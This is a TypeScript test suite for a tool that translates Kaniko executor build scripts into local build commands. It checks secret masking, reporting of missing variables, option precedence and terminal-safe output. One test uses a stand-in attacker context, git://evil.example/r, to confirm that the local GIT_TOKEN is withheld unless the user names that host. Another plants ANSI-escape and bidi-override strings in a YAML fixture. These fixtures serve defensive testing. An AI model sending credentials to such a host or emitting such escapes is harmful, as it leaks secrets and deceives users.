import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, beforeEach, expect, test } from "vitest";
import { Place } from "./program.ts";

let place: Place;
beforeEach(async () => {
  place = await Place.create();
  await mkdir(join(place.root, "app"));
  await writeFile(place.path("app/Dockerfile"), "FROM scratch\n");
});
afterEach(() => place.remove());

async function from(script: string, ...more: string[]) {
  await writeFile(place.path("build.sh"), script);
  return place.run(["from", "build.sh", ...more]);
}

test("the command line that does the same, to be copied; secrets are masked", async () => {
  const { status, stdout } = await from(
    `/kaniko/executor -c app --build-arg 'A=x y' --build-arg API_TOKEN=hunter2 -d https://me:pw1234@r.example/a --label l="$(date)"`,
    "--dry-run",
    "--label",
    "own=1",
  );
  expect(status).toBe(1);
  expect(stdout).toContain("kaniko-lab build app --dockerfile Dockerfile --cache off");
  expect(stdout).toContain("--build-arg 'A=x y'");
  expect(stdout).toContain("--label own=1");
  expect(stdout).toMatch(/missing\n {2}\$\(date\) \(line 1\)/);
  expect(stdout).not.toMatch(/hunter2|pw1234/);
});

test("a document for other programs", async () => {
  const { context, command, missing, leftOut } = await place
    .run(["from", "-", "--help"])
    .then(() => from("/kaniko/executor -c app -d r.example/a", "--dry-run", "--json"))
    .then(({ stdout }) => JSON.parse(stdout));
  expect(context).toMatchObject({ here: "app", dockerfile: "Dockerfile" });
  expect(command).toEqual(["kaniko-lab", "build", "app", "--dockerfile", "Dockerfile", "--cache", "off"]);
  expect(missing).toEqual([]);
  expect(leftOut).toEqual([{ what: "--destination=r.example/a", why: "nothing is pushed; --push does that" }]);
});

test("all that is missing is named at once, before anything is built", async () => {
  const { status, stderr } = await from("/kaniko/executor -c app --build-arg A=$A --secret id=s --target $B");
  expect(status).toBe(2);
  expect(stderr).toContain("$A (line 1); secret s (id=s) (line 1); $B (line 1)");
  expect(stderr).toContain("hint: --param A=VALUE --secret id=s,src=FILE --param B=VALUE");
});

test("a remote context gets this machine's credentials only when the user names it, too", async () => {
  process.env.GIT_TOKEN = "secret-of-mine";
  try {
    const script = "/kaniko/executor --context git://evil.example/r --no-push";
    const refused = await from(script, "--dry-run");
    expect(refused.status).toBe(1);
    expect(refused.stdout).toContain("the executor would get GIT_TOKEN of your environment");
    const said = await from(script, "--dry-run", "--context", "git://evil.example/r");
    expect(said.status).toBe(0);
    expect(said.stdout).toContain("kaniko-lab build git://evil.example/r --cache off");
  } finally {
    delete process.env.GIT_TOKEN;
  }
});

test("a folder stands for what Kaniko fetches in CI, with the flags that choose in it", async () => {
  const script =
    "/kaniko/executor --context git://h.example/r --context-sub-path app --dockerfile Dockerfile --no-push";
  const here = await from(script, "--dry-run", "--context", ".");
  expect(here.stdout).toContain("kaniko-lab build app --dockerfile Dockerfile --cache off");
  const there = await from(script, "--dry-run", "--context", "git://h.example/r#refs/heads/other");
  expect(there.stdout).toContain("--context-sub-path=app");
  const stdin = await from("/kaniko/executor --context tar://stdin -d a", "--dry-run");
  expect(stdin.stdout).toContain("the context comes by standard input (line 1)");
});

test("the user's own Dockerfile and options win", async () => {
  await writeFile(place.path("app/Other"), "FROM scratch\n");
  const { stdout } = await from(
    "/kaniko/executor -c app --snapshot-mode=redo --cache -d a --build-arg A=1 --build-arg B=2",
    ...["--dry-run", "--dockerfile", "Other", "--snapshot-mode", "time", "--cache", "off", "--build-arg", "A=3"],
  );
  const command = stdout
    .replaceAll(/\\\n\s*/g, "")
    .split("\n")
    .find(line => line.includes("kaniko-lab build"));
  expect(command?.trim()).toBe(
    "kaniko-lab build app --dockerfile Other --snapshot-mode time --cache off --build-arg B=2 --build-arg A=3",
  );
});

test("text of the file never steers the terminal", async () => {
  await writeFile(
    place.path("pod.yaml"),
    'apiVersion: v1\nkind: Pod\nmetadata: { name: "a\\e[2J" }\nspec: { containers: [{ name: "b\\u202e", image: kaniko, args: [--no-push, "--label=\\u202e"] }] }\n',
  );
  const { stdout, stderr } = await place.run(["from", "pod.yaml", "--context", "app", "--dry-run"]);
  const list = await place.run(["from", "pod.yaml", "--list"]);
  for (const text of [stdout, stderr, list.stdout]) expect(text).not.toMatch(/\u001b|\u202e/);
  expect(stdout).toContain("\\x1b[2J");
});
